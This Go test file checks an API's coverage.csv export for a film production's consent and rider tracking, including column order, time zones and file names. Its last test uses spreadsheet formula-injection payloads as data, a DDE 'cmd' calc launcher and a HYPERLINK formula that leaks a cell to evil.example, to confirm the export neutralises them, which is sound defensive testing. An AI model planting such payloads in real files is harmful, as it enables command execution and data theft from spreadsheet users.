package api_test

import (
	"bytes"
	"encoding/csv"
	"maps"
	"net/http"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// covCSVScene is the documented column order of a producer's coverage.csv
// (one row per scene, counts only: rule 10); a coordinator's adds
// covCSVCast (one row per scene × cast member). README "Coverage": changing
// them breaks people's spreadsheets.
var (
	covCSVScene = []string{
		"scene_id", "scene_number", "scene_title", "call_time", "call_date", "scene_status", "content_tags",
		"readiness", "reasons", "current_version", "coordinator",
		"consent_confirmed", "consent_pending", "consent_declined", "consent_withdrawn",
		"riders_signed", "riders_unsigned", "riders_late",
		"last_checkin_at", "last_checkin_outcome", "debrief_status", "debrief_at",
	}
	covCSVCast = []string{"performer_id", "performer", "consent", "rider"}
)

// covCSV downloads coverage.csv as a and parses it; rows are keyed by column
// name.
func covCSV(t *testing.T, s *testServer, as account, production, query string) (response, [][]string, []map[string]string) {
	t.Helper()
	res := must(t, s.Do(request{Method: "GET", Path: "/api/v1/productions/" + production + "/coverage.csv" + query, Token: as.Token}), http.StatusOK)
	r := csv.NewReader(bytes.NewReader(res.Body))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not RFC 4180 CSV: %v\n%s", err, res.Body)
	}
	var rows []map[string]string
	for _, rec := range records[1:] {
		m := map[string]string{}
		for i, col := range records[0] {
			m[col] = rec[i]
		}
		rows = append(rows, m)
	}
	return res, records, rows
}

// TestCoverageCSV: a header row in the documented order per role; for the
// coordinator one row per scene × current cast member (one row with empty
// cast columns for a scene without cast), for the producer one row per scene
// with counts and no performer columns; CRLF line ends, times in the
// production's zone, an attachment name, and the same readiness as the JSON.
func TestCoverageCSV(t *testing.T) {
	s := newTestServer(t)
	w := newWorld(t, s)
	two := w.scene("42A", []string{"kissing", "partial_nudity"}, w.PerformerA, w.PerformerB)
	w.published(two, "v1", w.kissStep(w.PerformerA, w.PerformerB))
	must(t, w.decide(w.PerformerA, two, 1, "confirmed", ""), http.StatusOK)
	none := w.createScene(w.Coordinator, sceneBody("7", map[string]any{"title": "Crowd, no cast", "contentTags": []string{},
		"callTime": "2026-12-01T23:30:00Z"}))["id"].(string)
	w.createScene(w.Coordinator, sceneBody("8", map[string]any{"callTime": "2026-12-02T00:30:00Z"})) // 2 December in London

	res, records, rows := covCSV(t, s, w.Coordinator, w.Production, "?from=2026-12-01&to=2026-12-01")
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("content type %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); cd != `attachment; filename="closedset-coverage-night-garden-2026-12-01-2026-12-01.csv"` {
		t.Errorf("content disposition %q", cd)
	}
	if want := slices.Concat(covCSVScene, covCSVCast); !reflect.DeepEqual(records[0], want) {
		t.Errorf("header %v,\nwant %v", records[0], want)
	}
	if n := bytes.Count(res.Body, []byte("\r\n")); n != len(records) || bytes.Count(res.Body, []byte("\n")) != n {
		t.Errorf("%d CRLF line ends for %d records:\n%q", n, len(records), res.Body)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want 2 for scene 42A and 1 for scene 7:\n%s", len(rows), res.Body)
	}
	a, b, empty := rows[0], rows[1], rows[2]
	if a["performer_id"] != w.PerformerA.ID || b["performer_id"] != w.PerformerB.ID {
		a, b = b, a
	}
	sceneA := map[string]string{"scene_id": two, "scene_number": "42A", "scene_title": "Scene 42A",
		"call_time": "2026-12-01T07:30:00Z", "call_date": "2026-12-01", "scene_status": "planned",
		"content_tags": "kissing;partial_nudity", "readiness": "at_risk", "reasons": "consent_pending;rider_missing",
		"current_version": "1", "coordinator": "Cory Coordinator",
		"consent_confirmed": "1", "consent_pending": "1", "consent_declined": "0", "consent_withdrawn": "0",
		"riders_signed": "0", "riders_unsigned": "2", "riders_late": "0",
		"last_checkin_at": "", "last_checkin_outcome": "", "debrief_status": "", "debrief_at": ""}
	wantA := maps.Clone(sceneA)
	maps.Copy(wantA, map[string]string{"performer_id": w.PerformerA.ID, "performer": "Ada Actor", "consent": "confirmed", "rider": "unsigned"})
	if !reflect.DeepEqual(a, wantA) {
		t.Errorf("row %v,\nwant %v", a, wantA)
	}
	if b["consent"] != "pending" || b["performer"] != "Ben Actor" || b["scene_id"] != two {
		t.Errorf("row %v", b)
	}
	if empty["scene_id"] != none || empty["readiness"] != "not_needed" || empty["coordinator"] != "" || empty["reasons"] != "" ||
		empty["performer_id"] != "" || empty["performer"] != "" || empty["consent"] != "" || empty["rider"] != "" ||
		empty["consent_pending"] != "0" {
		t.Errorf("scene without cast %v", empty)
	}

	// The producer: one row per scene, the same scene columns, no performer.
	_, records, rows = covCSV(t, s, w.Producer, w.Production, "?from=2026-12-01&to=2026-12-01")
	if !reflect.DeepEqual(records[0], covCSVScene) {
		t.Errorf("producer header %v,\nwant %v", records[0], covCSVScene)
	}
	if len(rows) != 2 || !reflect.DeepEqual(rows[0], sceneA) || rows[1]["scene_id"] != none {
		t.Errorf("producer rows %v,\nwant first %v", rows, sceneA)
	}

	// Without a range: every scene, the file named without dates.
	res, _, rows = covCSV(t, s, w.Coordinator, w.Production, "")
	if len(rows) != 4 || !strings.HasSuffix(res.Header.Get("Content-Disposition"), `filename="closedset-coverage-night-garden.csv"`) {
		t.Errorf("%d rows, %q", len(rows), res.Header.Get("Content-Disposition"))
	}
	res, _, _ = covCSV(t, s, w.Coordinator, w.Production, "?from=2026-12-02")
	if !strings.HasSuffix(res.Header.Get("Content-Disposition"), `filename="closedset-coverage-night-garden-from-2026-12-02.csv"`) {
		t.Errorf("%q", res.Header.Get("Content-Disposition"))
	}
}

// TestCoverageCSVTimesInProductionZone: call_time and call_date are in the
// production's zone (RFC 3339 with its offset).
func TestCoverageCSVTimesInProductionZone(t *testing.T) {
	s := newTestServer(t)
	w := newWorld(t, s)
	res := must(t, s.Do(request{Method: "POST", Path: "/api/v1/productions", Token: w.Producer.Token,
		Body: map[string]any{"title": "Über Nacht!", "kind": "film", "timezone": "America/New_York"}}), http.StatusCreated)
	w.Production = res.JSON(t)["id"].(string)
	s.join(w.Producer, w.Production, w.Coordinator, "coordinator")
	w.createScene(w.Coordinator, sceneBody("1", map[string]any{"callTime": "2026-11-02T04:30:00Z"}))
	res, _, rows := covCSV(t, s, w.Producer, w.Production, "?to=2026-11-01")
	if len(rows) != 1 || rows[0]["call_time"] != "2026-11-01T23:30:00-05:00" || rows[0]["call_date"] != "2026-11-01" {
		t.Errorf("rows %v", rows)
	}
	if cd := res.Header.Get("Content-Disposition"); cd != `attachment; filename="closedset-coverage-ber-nacht-to-2026-11-01.csv"` {
		t.Errorf("content disposition %q", cd)
	}
}

// TestCoverageCSVNeutralisesFormulas: a cell that begins with =, +, - or @
// (a scene title, a performer's display name) is prefixed with a single quote
// so that a spreadsheet shows it as text instead of running it.
func TestCoverageCSVNeutralisesFormulas(t *testing.T) {
	s := newTestServer(t)
	w := newWorld(t, s)
	plus := covAccount(t, s, "plus@example.test", "+1 Plus Person")
	minus := covAccount(t, s, "minus@example.test", "-Minus Person")
	at := covAccount(t, s, "at@example.test", "@At Person")
	eq := covAccount(t, s, "eq@example.test", "=cmd|' /C calc'!A0")
	performers := []account{plus, minus, at, eq}
	for _, p := range performers {
		s.join(w.Coordinator, w.Production, p, "performer")
	}
	title := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	sc := w.createScene(w.Coordinator, sceneBody("-1", map[string]any{"title": title, "coordinatorId": w.Coordinator.ID}))["id"].(string)
	for i, p := range performers {
		w.cast(sc, p, map[string]any{"characterName": string(rune('A' + i))})
	}
	_, _, rows := covCSV(t, s, w.Coordinator, w.Production, "")
	if len(rows) != 4 {
		t.Fatalf("%d rows", len(rows))
	}
	names := map[string]bool{}
	for _, r := range rows {
		if r["scene_title"] != "'"+title || r["scene_number"] != "'-1" {
			t.Errorf("title %q, number %q", r["scene_title"], r["scene_number"])
		}
		names[r["performer"]] = true
		for col, v := range r {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("%s cell %q is not neutralised", col, v)
			}
		}
	}
	for _, want := range []string{"'+1 Plus Person", "'-Minus Person", "'@At Person", "'=cmd|' /C calc'!A0"} {
		if !names[want] {
			t.Errorf("no performer cell %q in %v", want, names)
		}
	}

	// The JSON keeps the names as they are: neutralising is the CSV's business.
	_, byID := w.covRead(w.Producer, "")
	if byID[sc]["title"] != title {
		t.Errorf("JSON title %v", byID[sc]["title"])
	}
}
